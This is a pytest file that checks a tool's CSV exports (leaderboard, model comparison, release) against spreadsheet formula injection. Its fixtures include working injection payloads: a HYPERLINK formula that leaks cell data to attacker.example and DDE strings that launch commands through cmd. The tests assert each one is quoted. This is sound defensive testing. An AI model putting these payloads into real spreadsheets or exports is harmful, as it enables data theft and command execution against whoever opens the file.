"""Issue 25 item 4: no CSV Kakugo writes holds a cell a spreadsheet would run as a formula.

The files are written by the real commands (``kakugo leaderboard --format csv``, ``kakugo
compare export`` with two tiny models, ``kakugo release`` to a folder) from hostile model
names, prompt ids and prompts, then read back with Python's csv module.
"""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from pathlib import Path

import pytest
from cli_runner import run_cli

from kakugo_core.csv_safe import FORMULA_STARTS, restore_cell, safe_cell, safe_row
from kakugo_core.store import ResultsStore

HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")'
#: model names and texts that a spreadsheet would run, one per dangerous first character
HOSTILE = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
           "\t=1+1", "\r=1+1"]


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def assert_no_formula(rows: list[list[str]]) -> None:
    """Every cell is text a spreadsheet shows as it is, or a plain number."""
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS) or is_number(cell), (cell, row)


def read_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_safe_cell_quotes_formulas_and_keeps_numbers() -> None:
    assert [safe_cell(v) for v in HOSTILE] == ["'" + v for v in HOSTILE]
    assert [safe_cell(v) for v in (-0.5, 3, None, "-0.5", "+1e-3", "plain", "a=b")] == \
        [-0.5, 3, None, "-0.5", "+1e-3", "plain", "a=b"]
    assert safe_cell("-inf") == "'-inf" and safe_cell("-1-1") == "'-1-1"
    assert safe_row({"m": "=1", "v": -2.0}) == {"m": "'=1", "v": -2.0}
    assert [restore_cell(safe_cell(v)) for v in HOSTILE] == HOSTILE
    assert restore_cell("'quoted by a person") == "'quoted by a person"


def test_leaderboard_csv_from_the_command_line(tmp_path: Path) -> None:
    db = tmp_path / "results.sqlite"
    with ResultsStore(db) as store:
        store.put("base", "main", "sib200", "jav_Latn", 3, "h", [("acc", 0.60, 0.03, 204)])
        for i, name in enumerate(HOSTILE[:4]):  # the store takes printable names only
            store.put(name, "main", "sib200", "jav_Latn", 3, "h", [("acc", 0.1 * i, 0.03, 204)])
    out = tmp_path / "board.csv"
    done = subprocess.run(
        [sys.executable, "-c", "from kakugo_core.cli import main; main()", "leaderboard",
         "--db", str(db), "--format", "csv", "--baseline", "base", "--output", str(out)],
        capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr
    rows = read_csv(out.read_text("utf-8"))
    assert_no_formula(rows)
    by_model = {restore_cell(row[0]): row for row in rows[1:]}
    assert set(by_model) == {"base", *HOSTILE[:4]}
    assert by_model[HYPERLINK][0] == "'" + HYPERLINK
    header = rows[0]
    delta = by_model[HYPERLINK][header.index("sib200/acc:delta")]
    assert delta.startswith("-") and float(delta) == pytest.approx(-0.6)  # stays a number


@pytest.mark.slow
def test_compare_csv_from_the_command_line_and_back(
    tmp_path: Path, tiny_model: Path, sib200_dir: Path
) -> None:
    from test_judge_benchmark import build_model_pair

    model_a, model_b = build_model_pair(tiny_model, sib200_dir, tmp_path)
    prompts = tmp_path / "prompts.jsonl"
    ids = ["=id0", "+id1", "-id2", "@id3", "id4", "id5"]  # ids from a prompt file, hostile too
    prompts.write_text("".join(json.dumps({"id": i, "prompt": text}) + "\n"
                               for i, text in zip(ids, HOSTILE, strict=True)), "utf-8")
    out = tmp_path / "review"
    assert run_cli("compare", "export", "-m", str(model_a), "-m", str(model_b), "-p",
                   str(prompts), "-l", "jav", "-o", str(out), "--max-new-tokens", "4",
                   "--no-progress") == 0
    text = (out / "compare.csv").read_text("utf-8")
    rows = read_csv(text)
    assert_no_formula(rows)
    header, body = rows[0], rows[1:]
    # (prompt files are read with surrounding white space stripped)
    assert sorted(restore_cell(row[header.index("prompt")]) for row in body) == \
        sorted(text.strip() for text in HOSTILE)
    assert any(row[header.index("prompt")] == "'" + HYPERLINK for row in body)
    # a rater fills in the file as written (quotes kept): the votes still match the key
    for row in body:
        row[header.index("vote")], row[header.index("voter")] = "A", "=evil()"
    buffer = io.StringIO()
    csv.writer(buffer).writerows([header, *body])
    (tmp_path / "votes.csv").write_text(buffer.getvalue(), "utf-8")
    assert run_cli("compare", "import", str(tmp_path / "votes.csv"), "--key",
                   str(out / "key.json"), "--db", str(tmp_path / "votes.sqlite")) == 0
    with ResultsStore(tmp_path / "votes.sqlite") as store:
        assert store.models()


def test_release_comparison_csv_from_the_command_line(
    tiny_model: Path, tmp_path: Path
) -> None:
    base = '=HYPERLINK("evil"&A1,"click")'  # no "/": a name with one reads as a local folder
    db = tmp_path / "results.sqlite"
    with ResultsStore(db) as store:
        store.put(str(tiny_model), "", "sib200", "jav_Latn", 3, "p", [("acc", 0.4, 0.03, 204)])
        store.put(base, "", "sib200", "jav_Latn", 3, "p", [("acc", 0.5, 0.03, 204)])
    out = tmp_path / "out"
    assert run_cli("release", "--model", str(tiny_model), "--base", base, "--language",
                   "jav", "--db", str(db), "--out", str(out), "--repo-id", "me/kakugo-t-jav") == 0
    rows = read_csv((out / "results" / "comparison.csv").read_text("utf-8"))
    assert_no_formula(rows)
    assert any(row[0].startswith("'" + base) for row in rows)
